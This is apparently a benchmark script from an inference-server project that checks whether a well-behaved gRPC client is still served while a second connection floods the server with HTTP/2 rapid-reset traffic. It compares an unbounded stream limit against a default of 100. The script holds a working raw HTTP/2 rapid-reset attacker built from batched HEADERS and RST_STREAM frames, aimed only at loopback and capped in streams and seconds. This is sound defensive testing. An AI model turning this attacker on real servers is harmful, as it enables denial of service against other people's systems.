"""HTTP/2 rapid reset: one connection opens and resets streams as fast as it can; does a separate,
well-behaved connection still get its requests answered?

    python bench/rapid_reset.py [--streams 2000000 --max-seconds 5] [--grpc-engine auto|native|grpcio]

For each configuration a Shoal server starts on a free loopback port with one identity model.
A victim thread sends ModelInfer requests one after another on its own channel (each with a
5 s deadline) while the attacker, a raw HTTP/2 client written here (preface, SETTINGS, then
HEADERS + RST_STREAM pairs, answering the server's SETTINGS and PING), runs on another
connection for ``--max-seconds`` or ``--streams`` streams, dialling again if the server closes
it. Counted: victim requests by status, streams sent, and how long a fresh connection then
waits for ServerReady. Configurations: no attack; ``--grpc-max-concurrent-streams 0`` (grpc's
unbounded default, before); Shoal's default of 100 (after). Only 127.0.0.1; bounded in streams
and seconds. Prints one line per configuration and writes bench/results/rapid_reset.csv.

The attacker is a Python process on the same machine, so on a small machine part of the
victim's lost throughput is CPU taken by the attacker, not the server's doing.
"""

from __future__ import annotations

import argparse
import collections
import socket
import struct
import sys
import tempfile
import threading
import time
from pathlib import Path
from typing import Any

import numpy as np

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
from bench._perf import save_results  # noqa: E402
from shoal.clients.client import ClientError, InferenceClient  # noqa: E402
from shoal.tools import local_server  # noqa: E402

IDENTITY_CONFIG = """backend: "identity"
max_batch_size: 8
input [ { name: "IN" data_type: TYPE_FP32 dims: [ 16 ] } ]
output [ { name: "OUT" data_type: TYPE_FP32 dims: [ 16 ] } ]
"""

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
END_HEADERS, ACK, CANCEL = 0x4, 0x1, 0x8
BATCH = 200  # HEADERS + RST_STREAM pairs per write


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream_id) + payload


def hpack_literal(name: str, value: str) -> bytes:
    """A header as an HPACK literal without indexing, new name, no Huffman (names and values < 127 bytes)."""
    return b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def request_headers(port: int) -> bytes:
    return b"".join(
        hpack_literal(n, v)
        for n, v in (
            (":method", "POST"),
            (":scheme", "http"),
            (":path", "/inference.GRPCInferenceService/ModelInfer"),
            (":authority", f"127.0.0.1:{port}"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        )
    )


class Attacker:
    """One raw HTTP/2 connection that opens and at once resets stream after stream."""

    def __init__(self, port: int) -> None:
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.lock = threading.Lock()
        self.goaway = threading.Event()
        self.closed = threading.Event()
        self.sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        threading.Thread(target=self._read, daemon=True).start()

    def _send(self, data: bytes) -> None:
        with self.lock:
            self.sock.sendall(data)

    def _read(self) -> None:
        """Discard what the server sends, but acknowledge its SETTINGS and PINGs as a client must."""
        buffer = b""
        try:
            while True:
                chunk = self.sock.recv(1 << 16)
                if not chunk:
                    break
                buffer += chunk
                while len(buffer) >= 9:
                    length = int.from_bytes(buffer[:3], "big")
                    if len(buffer) < 9 + length:
                        break
                    kind, flags, payload = buffer[3], buffer[4], buffer[9 : 9 + length]
                    buffer = buffer[9 + length :]
                    if kind == SETTINGS and not flags & ACK:
                        self._send(frame(SETTINGS, ACK, 0))
                    elif kind == PING and not flags & ACK:
                        self._send(frame(PING, ACK, 0, payload))
                    elif kind == GOAWAY:
                        self.goaway.set()
        except OSError:
            pass
        self.closed.set()

    def run(self, port: int, streams: int, deadline: float) -> int:
        """Open and reset up to ``streams`` streams until ``deadline``; returns how many were sent."""
        block = request_headers(port)
        sent, stream_id = 0, 1
        try:
            while (
                sent < streams and time.monotonic() < deadline and not self.closed.is_set() and not self.goaway.is_set()
            ):
                batch = bytearray()
                for _ in range(min(BATCH, streams - sent)):
                    batch += frame(HEADERS, END_HEADERS, stream_id, block)
                    batch += frame(RST_STREAM, 0, stream_id, struct.pack(">I", CANCEL))
                    stream_id += 2
                    sent += 1
                self._send(bytes(batch))
        except OSError:
            pass  # the server closed the connection: that is a defence, not a failure of the bench
        return sent

    def close(self) -> None:
        self.sock.close()


def victim(url: str, stop: threading.Event, outcomes: collections.Counter[str], max_requests: int) -> None:
    """Well-behaved requests, one at a time, on a separate connection."""
    feed = {"IN": np.ones((1, 16), np.float32)}
    with InferenceClient(url, timeout_s=5) as client:
        client.infer("identity", feed)  # the channel is connected before the attack starts
        started.set()
        while not stop.is_set() and sum(outcomes.values()) < max_requests:
            try:
                client.infer("identity", feed)
                outcomes["OK"] += 1
            except ClientError as error:
                outcomes[error.status.name] += 1


started = threading.Event()


def recovery_s(url: str, limit_s: float = 60.0) -> float:
    """Seconds after the attack until ServerReady succeeds on a fresh connection (-1: not within the limit)."""
    begun = time.monotonic()
    while time.monotonic() - begun < limit_s:
        try:
            with InferenceClient(url, timeout_s=5) as client:
                if client.is_ready():
                    return round(time.monotonic() - begun, 2)
        except ClientError:
            time.sleep(0.1)
    return -1.0


def measure(repo: Path, label: str, server_args: tuple[str, ...], streams: int, max_seconds: float) -> dict[str, Any]:
    started.clear()
    with local_server.running(repo, *server_args) as server:
        outcomes: collections.Counter[str] = collections.Counter()
        stop = threading.Event()
        thread = threading.Thread(target=victim, args=(server.url, stop, outcomes, 100_000), daemon=True)
        thread.start()
        if not started.wait(60):
            raise RuntimeError("the victim could not connect")
        begun = time.monotonic()
        sent, connections, goaways = 0, 0, 0
        if not streams:  # the baseline: the victim alone for the same time
            stop.wait(max_seconds)
        while sent < streams and time.monotonic() < begun + max_seconds:  # a closed connection: dial again
            attacker = Attacker(server.port)
            connections += 1
            sent += attacker.run(server.port, streams - sent, begun + max_seconds)
            attacker.closed.wait(0.2 if sent < streams else 0)
            goaways += attacker.goaway.is_set()
            attacker.close()
        took_s = time.monotonic() - begun
        stop.set()
        thread.join(timeout=30)
        recovered_s = recovery_s(server.url)
    failed = sum(n for status, n in outcomes.items() if status != "OK")
    row = {
        "configuration": label,
        "streams_sent": sent,
        "attack_s": round(took_s, 2),
        "victim_ok": outcomes["OK"],
        "victim_failed": failed,
        "victim_failures": " ".join(f"{k}={v}" for k, v in sorted(outcomes.items()) if k != "OK"),
        "attack_connections": connections,
        "goaways": goaways,
        "ready_again_after_s": recovered_s,
    }
    print(
        f"{label:28s} streams {sent:7d} in {took_s:5.1f} s; victim ok {outcomes['OK']:5d}, failed {failed:4d} "
        f"{row['victim_failures']}; {connections} connections, {goaways} GOAWAY; ready again after {recovered_s} s"
    )
    return row


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--streams", type=int, default=2_000_000, help="most streams the attacker opens")
    parser.add_argument("--max-seconds", type=float, default=5.0, help="how long the attack (and each window) lasts")
    parser.add_argument(
        "--grpc-engine",
        default="auto",
        choices=("auto", "native", "grpcio"),
        help="the engine of every server (default auto: native on this insecure listener)",
    )
    args = parser.parse_args()
    configurations = {  # label: (server arguments, attack streams)
        "no attack (baseline)": ((), 0),
        "before: unbounded streams": (("--grpc-max-concurrent-streams", "0"), args.streams),
        "after: 100 streams (default)": ((), args.streams),
    }
    with tempfile.TemporaryDirectory() as folder:
        model = Path(folder) / "repo" / "identity"
        (model / "1").mkdir(parents=True)
        (model / "config.pbtxt").write_text(IDENTITY_CONFIG)
        repo = model.parent
        rows = [
            measure(repo, label, ("--grpc-engine", args.grpc_engine, *extra), streams, args.max_seconds)
            for label, (extra, streams) in configurations.items()
        ]
    for row in rows:
        row["engine"] = args.grpc_engine
    save_results(rows, f"rapid_reset_{args.grpc_engine}.csv" if args.grpc_engine != "auto" else "rapid_reset.csv")


if __name__ == "__main__":
    main()
